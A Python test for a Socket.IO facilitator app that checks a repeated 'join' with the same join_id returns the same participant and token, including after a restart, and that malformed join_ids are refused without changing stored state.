def test_a_join_sent_again_with_its_join_id_gets_the_same_participant(app, socketio, store):
    """A phone whose join answer was lost taps Join again with the same join_id: the same
    participant and token, not a ghost who never answers; across a restart too; another id is
    another participant; a short or odd id is refused and changes nothing."""
    from facilitator.services import services

    client = app.test_client()
    info = client.post("/api/sessions", json={"deck": "task-5-1", "groups": ["A", "B"]}
                       ).get_json()
    join_id = "k3f9x0q1z8m2w7r4y6t5"
    first = socketio.test_client(app)
    ack = first.emit("join", {"code": info["code"], "name": "Ana", "group": 1,
                              "join_id": join_id}, callback=True)
    again = socketio.test_client(app)
    ack2 = again.emit("join", {"code": info["code"], "name": "Ana", "group": 1,
                               "join_id": join_id}, callback=True)
    assert ack["ok"] and ack2["ok"] and ack2["token"] == ack["token"]
    session = store.by_code(info["code"])
    assert [p.name for p in session.active()] == ["Ana"]
    other = socketio.test_client(app).emit(
        "join", {"code": info["code"], "name": "Ana", "group": 1,
                 "join_id": "another-phone-0000000"}, callback=True)
    assert other["ok"] and other["token"] != ack["token"]
    before = store.dump()
    for bad in ("short", 7, "x" * 65, "tab\there-0123456789"):
        refused = socketio.test_client(app).emit(
            "join", {"code": info["code"], "name": "Eve", "join_id": bad}, callback=True)
        assert refused["error"]["code"] == "bad_request", (bad, refused)
    assert store.dump() == before
    # the id is kept with the participant: still found after a restart
    services(app).store.close()
    from facilitator import create_app

    restarted = create_app(dict(app.config))
    phone = services(restarted).socketio.test_client(restarted)
    ack3 = phone.emit("join", {"code": info["code"], "name": "Ana", "group": 1,
                               "join_id": join_id}, callback=True)
    assert ack3["ok"] and ack3["token"] == ack["token"]
    services(restarted).store.close()
